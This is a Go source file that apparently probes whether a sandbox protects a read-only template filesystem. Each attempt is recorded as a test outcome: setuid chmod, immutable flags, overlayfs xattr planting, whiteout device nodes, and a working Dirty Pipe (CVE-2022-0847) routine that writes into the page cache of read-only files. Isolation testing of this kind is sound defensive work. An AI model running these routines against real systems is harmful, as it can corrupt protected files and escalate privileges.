package attacks

import (
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// Files is what must come of files. Everyone may make whiteouts where they mean
// nothing.
var Files = Expectation{Want: map[string]string{"whiteout in /tmp": Whatever, "whiteout in /dev/shm": Whatever}}

// files attacks the template that lies under the root. The arguments are
// file=PATH, which it changes in every way, and dir=PATH, in which it makes
// something and which it moves away.
func files(r *Report, args []string) {
	for _, arg := range args {
		kind, path, _ := strings.Cut(arg, "=")
		if kind == "dir" {
			r.Try("create in "+path, os.WriteFile(path+"/probe", nil, 0o666))
			r.Try("remove folder "+path, os.Rename(path, "/tmp/x"))
			continue
		}
		r.Try("write "+path, Rewrite(path))
		r.Try("remove "+path, os.Remove(path))
		r.Try("rename "+path, os.Rename(path, path+".old"))
		r.Try("chmod "+path, os.Chmod(path, 0o4777))
		r.Try("link "+path, os.Link(path, path+".link"))
		r.Try("dirty pipe "+path, DirtyPipe(path))
		r.Try("immutable "+path, setFlags(path))
	}
	for _, dir := range []string{"/var/tmp", "/tmp", "/dev/shm"} {
		r.overlay(dir)
	}
}

// overlay plants what has a meaning to overlayfs.
func (r *Report) overlay(dir string) {
	path := filepath.Join(dir, "planted")
	if err := os.Mkdir(path, 0o777); err != nil {
		r.Fact("plant in "+dir, Outcome(err))
		return
	}
	for _, name := range []string{"trusted.overlay.opaque", "trusted.overlay.redirect", "trusted.overlay.metacopy", "security.ima", "security.capability"} {
		r.Try(name+" in "+dir, unix.Setxattr(path, name, []byte("/etc"), 0))
	}
	err := unix.Mknod(filepath.Join(dir, "whiteout"), unix.S_IFCHR, 0)
	if dir == "/var/tmp" { // overlayfs
		r.Try("whiteout in "+dir, err)
	} else { // anyone may make one elsewhere, where it means nothing
		r.Fact("whiteout in "+dir, Outcome(err))
	}
}

// rewrite writes to a file and leaves it as it was.
func Rewrite(path string) error {
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	b := make([]byte, 1)
	if _, err := f.ReadAt(b, 0); err != nil {
		return err
	}
	_, err = f.WriteAt(b, 0)
	return err
}

// dirtyPipe writes through a pipe into the page cache of a file that it may only
// read (CVE-2022-0847).
func DirtyPipe(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	var before, after [8]byte
	if _, err := f.ReadAt(before[:], 0); err != nil {
		return err
	}
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC); err != nil {
		return err
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	size, err := unix.FcntlInt(uintptr(p[1]), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return err
	}
	full := make([]byte, size)
	for _, f := range []func(int, []byte) (int, error){unix.Write, unix.Read} { // every buffer of the ring was mergeable once
		fd := p[1]
		if full[0] == 1 {
			fd = p[0]
		}
		if _, err := f(fd, full); err != nil {
			return err
		}
		full[0] = 1
	}
	var offset int64
	if _, err := unix.Splice(int(f.Fd()), &offset, p[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(p[1], []byte{^before[1]}); err != nil {
		return err
	}
	if _, err := f.ReadAt(after[:], 0); err != nil {
		return err
	}
	if before == after {
		return unix.EPERM
	}
	return nil
}

func setFlags(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	const immutable = 0x10
	return unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, immutable)
}
